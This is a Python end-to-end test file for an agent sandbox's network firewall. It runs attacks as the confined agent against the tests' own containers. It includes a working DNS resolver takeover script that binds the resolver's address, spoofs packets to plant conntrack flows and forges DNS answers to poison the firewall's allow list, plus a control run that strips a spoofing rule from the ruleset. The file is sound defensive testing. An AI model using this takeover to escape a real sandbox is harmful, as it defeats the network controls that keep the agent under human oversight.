"""The wall's network side doors (issue 8): attacks on the sandbox's own resolver path.

Every attack runs as the agent inside a real sandbox on the tests' --internal network (conftest),
against the tests' own containers and the sandbox's loopback only. Docker's embedded DNS forwards
names it does not know to the tests' DNS server (CXGEN_TEST_DNS), never to this machine's.
"""

from __future__ import annotations

import os
import shlex
import subprocess
import sys
import tempfile
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.e2e.conftest import (
    EXTERNAL_NAME,
    HOST_NAME,
    LABEL,
    UNLISTED_NAME,
    Host,
    Sandbox,
    Topology,
    docker,
    start_server,
)

PORT_START = "net.ipv4.ip_unprivileged_port_start"
AGENT = "setpriv --reuid 1000 --regid 1000 --clear-groups --inh-caps=-all --bounding-set=-all"
AGENT += " --no-new-privs --"

# The resolver takeover, as an unprivileged process: bind the upstream's address 127.0.0.11:53,
# send from there to every port dnsmasq may pick for its next upstream query (conntrack records
# each as a flow 127.0.0.11:53 -> 127.0.0.1:PORT), then look NAME up: dnsmasq's query matches one
# of those flows as a "reply", reaches this socket instead of Docker's DNS, and this answers EVIL.
# Prints one line per step; exit 3 when the bind is refused.
RESOLVER_TAKEOVER = r"""
import socket, struct, subprocess, sys, time

evil, name = sys.argv[1], sys.argv[2]
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    sock.bind(("127.0.0.11", 53))
except OSError as error:
    print(f"bind refused: {error.strerror}", flush=True)
    sys.exit(3)
print("bound 127.0.0.11:53")
sent = refused = 0
for port in range(1024, 65536):  # dnsmasq's random query ports
    try:
        sock.sendto(b"\0", ("127.0.0.1", port))
        sent += 1
    except OSError:
        refused += 1
print(f"spoofed sent={sent} refused={refused}")
lookup = subprocess.Popen(["getent", "ahostsv4", name], stdout=subprocess.PIPE, text=True)
sock.settimeout(0.2)
hijacked, deadline = 0, time.monotonic() + 6
while lookup.poll() is None and time.monotonic() < deadline:
    try:
        query, peer = sock.recvfrom(512)
    except socket.timeout:
        continue
    if len(query) < 17 or query[2] & 0x80:
        continue
    end = query.index(b"\0", 12) + 5
    is_a = struct.unpack("!H", query[end - 4 : end - 2])[0] == 1
    header = query[:2] + struct.pack("!HHHHH", 0x8180, 1, int(is_a), 0, 0)
    record = struct.pack("!HHHIH", 0xC00C, 1, 1, 60, 4) + socket.inet_aton(evil) if is_a else b""
    sock.sendto(header + query[12:end] + record, peer)
    hijacked += 1
print(f"hijacked={hijacked}")
print("lookup:", (lookup.communicate()[0] or "nothing").split()[0])
"""


@pytest.fixture
def sandbox(either_sandbox: Sandbox) -> Sandbox:
    """Every test here runs in both modes: a user's project and root's (root mode)."""
    return either_sandbox


def takeover(evil: str, name: str) -> str:
    return f"python3 -c {shlex.quote(RESOLVER_TAKEOVER)} {evil} {name}"


def image_run(
    sandbox: Sandbox, *extra: str, command: list[str] | None = None
) -> subprocess.CompletedProcess[str]:
    """The sandbox image by hand (no run script) on the test network, DNS forwarded to ours."""
    return docker(
        "run",
        "--rm",
        "--label",
        LABEL,
        "--network",
        sandbox.network,
        "--dns",
        os.environ["CXGEN_TEST_DNS"],
        "--cap-add",
        "NET_ADMIN",
        *extra,
        sandbox.image,
        *(command or ["echo", "started"]),
        check=False,
        timeout=90,
    )


def dns_log(topology: Topology) -> str:
    result = docker("logs", topology.hosts["dns"].container)
    return result.stdout + result.stderr


# --- 1. resolver takeover -----------------------------------------------------------------


def test_agent_cannot_bind_privileged_ports(sandbox: Sandbox) -> None:
    """The run script raises ip_unprivileged_port_start to 1024: no port 53 for the agent."""
    probe = """
import socket
for family, kind, address, port in [
    (socket.AF_INET, socket.SOCK_DGRAM, "127.0.0.11", 53),
    (socket.AF_INET, socket.SOCK_STREAM, "127.0.0.11", 53),
    (socket.AF_INET, socket.SOCK_STREAM, "0.0.0.0", 80),
    (socket.AF_INET6, socket.SOCK_DGRAM, "::1", 853),
]:
    try:
        socket.socket(family, kind).bind((address, port))
        print("bound", address, port)
    except OSError as error:
        print("refused", address, port, error.strerror)
"""
    result = sandbox.sh(
        f"cat /proc/sys/net/ipv4/ip_unprivileged_port_start; python3 -c {shlex.quote(probe)}"
    )
    lines = result.stdout.splitlines()
    assert lines[0] == "1024", result.stderr
    assert len(lines) == 5 and all(
        line.startswith("refused") and line.endswith("Permission denied") for line in lines[1:]
    ), result.stdout


@pytest.mark.parametrize(
    "sysctl", [[], ["--sysctl", f"{PORT_START}=0"], ["--sysctl", f"{PORT_START}=1023"]]
)
def test_entrypoint_refuses_when_anyone_may_bind_port_53(
    sandbox: Sandbox, sysctl: list[str]
) -> None:
    """Docker's default (0), or anything below 1024: the entrypoint stops before the command."""
    result = image_run(sandbox, *sysctl)
    assert result.returncode == 78 and "started" not in result.stdout, result.stderr
    assert "ip_unprivileged_port_start=1024" in result.stderr
    assert "nothing was started" in result.stderr


@pytest.mark.parametrize("ruleset", ["as-shipped", "without-the-spoofing-rule"])
def test_ruleset_alone_stops_a_resolver_takeover(
    sandbox: Sandbox, topology: Topology, ruleset: str
) -> None:
    """Defence in depth: with the sysctl bypassed (Docker's default, anyone may bind port 53),
    the rules alone refuse packets sent from the resolver's address, so the takeover neither
    teaches the allow set an address nor opens the blocked server. The control run without that
    one rule shows the attack is real: the same steps then poison the set."""
    blocked = topology.hosts["blocked"].ipv4
    weaken = ""
    if ruleset == "without-the-spoofing-rule":
        weaken = (
            "grep -v 'saddr.*meta skuid != ' /run/cxgen/rules.nft >/tmp/weak.nft"
            " && ! cmp -s /tmp/weak.nft /run/cxgen/rules.nft && nft -f /tmp/weak.nft"
        )
    driver = f"""
set -eu
. /usr/local/lib/cxgen/firewall.sh
fw_fail() {{ echo "setup failed: $*"; exit 1; }}
fw_warn() {{ :; }}
fw_setup allowed-names poison.test
fw_setup_wait
fw_log_reader_start
{weaken}
{AGENT} {takeover(blocked, "poison.test")} || true
echo "allow4: $(nft list set inet cxgen allow4 | tr -d '\\n\\t')"
echo "curl: $({AGENT} curl -sS --max-time 5 http://{blocked}/ 2>/dev/null; echo rc=$?)"
"""
    result = image_run(
        sandbox,
        "--sysctl",
        f"{PORT_START}=0",
        "--entrypoint",
        "bash",
        command=["-c", driver],
    )
    out = result.stdout
    assert "bound 127.0.0.11:53" in out, out + result.stderr  # the sysctl is really bypassed
    if ruleset == "as-shipped":
        assert "spoofed sent=0 refused=64512" in out, out
        assert "hijacked=0" in out and "lookup: nothing" in out, out
        assert blocked not in out.split("allow4:")[1].split("\n")[0], out
        assert "curl: rc=7" in out, out
    else:
        assert "hijacked=0" not in out and f"lookup: {blocked}" in out, out
        assert "hello-from-blocked" in out, out


def test_resolver_takeover_through_the_run_script_fails(
    sandbox: Sandbox, topology: Topology
) -> None:
    """The whole attack as the agent in a real sandbox, on a name the allowlist forwards
    (allowed.test's subdomains) that does not exist: nothing to bind, nothing learned."""
    blocked = topology.hosts["blocked"].ipv4
    name = f"poison-{uuid.uuid4().hex[:6]}.allowed.test"
    result = sandbox.sh(
        f"{takeover(blocked, name)}; getent hosts {name} || echo no-address;"
        f" curl -sS --max-time 5 -o /dev/null http://{blocked}/; echo curl rc=$?"
    )
    assert result.stdout.startswith("bind refused: Permission denied"), result.stdout
    assert "no-address" in result.stdout and "curl rc=7" in result.stdout, result.stdout


# --- 2. Docker's embedded DNS forwarding ------------------------------------------------------


def test_allowed_name_only_an_external_resolver_knows_works(
    sandbox: Sandbox, topology: Topology
) -> None:
    """Docker's DNS forwards the name (as root, from inside the sandbox) to the tests' DNS
    server; that one path is open, so the allowed name resolves and connects, on both families."""
    name = f"{uuid.uuid4().hex[:6]}.{EXTERNAL_NAME}"
    result = sandbox.run(
        "exec",
        "--allow",
        name,
        "--",
        "bash",
        "-c",
        f"getent ahostsv4 {name} | head -n1; curl -4 -sS --max-time 5 http://{name}/;"
        f" curl -6 -sS --max-time 5 http://{name}/",
    )
    ext = topology.hosts["ext"]
    assert result.stdout.split()[0] == ext.ipv4, result.stderr
    assert result.stdout.count("hello-from-ext") == 2, result.stdout + result.stderr
    assert f"query[A] {name}" in dns_log(topology)


def test_names_outside_the_allowlist_are_never_forwarded(
    sandbox: Sandbox, topology: Topology
) -> None:
    """The external resolver would answer this name, but it is not allowed: NXDOMAIN from the
    sandbox's own resolver, and the query never leaves the sandbox."""
    name = f"{uuid.uuid4().hex[:6]}.{UNLISTED_NAME}"
    result = sandbox.sh(
        f"getent hosts {name} || echo no-address; dig +time=2 +tries=1 @127.0.0.1 {name}"
    )
    assert result.stdout.startswith("no-address") and "status: NXDOMAIN" in result.stdout
    assert name not in dns_log(topology)


@pytest.mark.parametrize("transport", ["", "+tcp"])
def test_agent_cannot_use_the_forwarding_path_itself(
    sandbox: Sandbox, topology: Topology, transport: str
) -> None:
    """Port 53 elsewhere is open to root (Docker's forwarder) only: the agent's own query to the
    very server Docker forwards to is refused."""
    dns = topology.hosts["dns"].ipv4
    result = sandbox.sh(f"dig {transport} +time=2 +tries=1 @{dns} {EXTERNAL_NAME}")
    assert result.returncode != 0 and "ANSWER SECTION" not in result.stdout, result.stdout


# --- 3. the firewall's own files ---------------------------------------------------------------


def test_agent_cannot_read_the_firewalls_files(sandbox: Sandbox) -> None:
    """Closed to the agent by ownership, not by root's: in root mode the agent is uid 0."""
    result = sandbox.sh(
        "stat -c '%a %U' /run/cxgen /var/lib/cxgen; cat /run/cxgen/rules.nft; echo cat rc=$?;"
        " ls /run/cxgen; echo ls rc=$?; echo x >> /run/cxgen-dns/servers; echo servers rc=$?;"
        " touch /var/lib/cxgen/lockdown; echo state rc=$?"
    )
    assert result.stdout.startswith("700 cxgen-fw\n700 cxgen-fw\n"), result.stdout
    assert "cat rc=1" in result.stdout and "ls rc=2" in result.stdout, result.stdout
    assert "servers rc=1" in result.stdout and "state rc=1" in result.stdout, result.stdout
    assert "policy" not in result.stdout and "Permission denied" in result.stderr


@pytest.fixture
def host_listener(topology: Topology) -> Iterator[tuple[str, int, Path]]:
    """A web server on this machine (the Docker host), on its address on the test network: a
    stand-in for a service of the user's own machine."""
    address = topology.host_address
    with tempfile.TemporaryDirectory() as tmp:
        log = Path(tmp) / "requests.log"
        server = subprocess.Popen(
            [sys.executable, "-m", "http.server", "0", "--bind", address, "-d", tmp],
            stdout=subprocess.PIPE,
            stderr=log.open("w"),
            text=True,
        )
        try:
            assert server.stdout is not None
            port = int(server.stdout.readline().split(" port ")[1].split()[0])
            yield address, port, log
        finally:
            server.terminate()
            server.wait(timeout=10)


def test_allowed_name_resolving_to_the_docker_host_is_refused(
    make_sandbox, host_listener: tuple[str, int, Path]
) -> None:  # type: ignore[no-untyped-def]
    """Even in allowed-names mode, an allowed name that resolves to one of the Docker host's own
    addresses stays shut: not only the sandbox's gateway, any address of the host."""
    address, port, log = host_listener
    sandbox = make_sandbox(allowed_domains=[HOST_NAME], private_destinations="allowed-names")
    result = sandbox.sh(
        f"getent ahostsv4 {HOST_NAME} | head -n1; "
        f"curl -sS --max-time 5 -o /dev/null http://{HOST_NAME}:{port}/; echo rc=$?"
    )
    assert result.stdout.split()[0] == address, result.stdout + result.stderr
    assert "rc=7" in result.stdout, result.stdout + result.stderr
    assert "GET /" not in log.read_text()


@pytest.fixture
def rotating_dns(topology: Topology, server_image: str) -> Iterator[Host]:
    """A DNS server of the tests' own whose answer for rot.test the test changes (dnsmasq reads
    its hostsdir again on every change, and answers with TTL 0)."""
    first = topology.hosts["allowed"].ipv4
    script = (
        f"mkdir -p /etc/rot && echo '{first} rot.test' > /etc/rot/hosts && exec dnsmasq"
        " --keep-in-foreground --user=root --no-resolv --no-hosts --hostsdir=/etc/rot"
        " --local-ttl=0 --log-queries --log-facility=-"
    )
    server = start_server(topology.network, "rotdns", [], server_image, ["sh", "-c", script])
    try:
        yield server
    finally:
        docker("rm", "-f", "-v", server.container, check=False)


def test_an_allowed_names_new_address_is_followed_without_a_restart(
    make_sandbox, topology: Topology, rotating_dns: Host
) -> None:  # type: ignore[no-untyped-def]
    """CDN rotation: the allowed name moves to another address during the session; the resolver
    teaches the firewall the new address as it answers, and the connection works there too."""
    second = topology.hosts["wild"].ipv4
    sandbox = make_sandbox(allowed_domains=["rot.test"], private_destinations="allowed-names")
    session = sandbox.start(
        "exec",
        "--",
        "bash",
        "-c",
        "curl -sS --max-time 5 http://rot.test/;"
        f" for i in $(seq 100); do getent ahostsv4 rot.test | grep -q '^{second} ' && break;"
        " sleep 0.2; done; curl -sS --max-time 5 http://rot.test/",
        env={"CXGEN_TEST_DNS": rotating_dns.ipv4},
    )
    assert session.stdout is not None
    first_line = session.stdout.readline()
    docker("exec", rotating_dns.container, "sh", "-c", f"echo '{second} rot.test' > /etc/rot/hosts")
    rest, errors = session.communicate(timeout=120)
    assert first_line.strip() == "hello-from-allowed", errors
    assert rest.strip() == "hello-from-wild", errors
